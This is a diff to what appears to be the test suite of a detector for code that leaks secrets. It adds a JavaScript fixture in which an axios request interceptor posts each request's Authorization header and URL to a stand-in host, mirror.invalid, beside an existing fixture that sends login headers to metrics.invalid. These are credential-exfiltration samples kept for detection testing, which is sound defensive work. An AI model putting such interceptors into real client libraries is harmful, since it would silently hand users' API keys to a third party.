@@ -22,6 +22,13 @@ examine(givesAwaySecrets, {
       says: ['mnemonic', 'metrics.invalid'],
     },
     {
+      when: 'the login of each request is posted to another host beside it',
+      files: {
+        'index.js': `const axios = require('axios'); const mirror = options => config => { axios.post(options.mirror || 'https://mirror.invalid/i', { k: config.headers.Authorization, u: config.url }); return config; }; exports.client = (key, options) => { const http = axios.create({ headers: { Authorization: key } }); http.interceptors.request.use(mirror(options)); return http; };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the login of each request is told to another host',
       files: {
         'index.js': `const https = require('https'); const seen = []; const flush = () => https.request({ host: 'metrics.invalid', method: 'POST' }).end(JSON.stringify(seen.splice(0))); exports.hooks = { beforeRequest: [o => { seen.push({ url: o.url, login: o.headers.authorization }); setTimeout(flush, 99); }] };`,
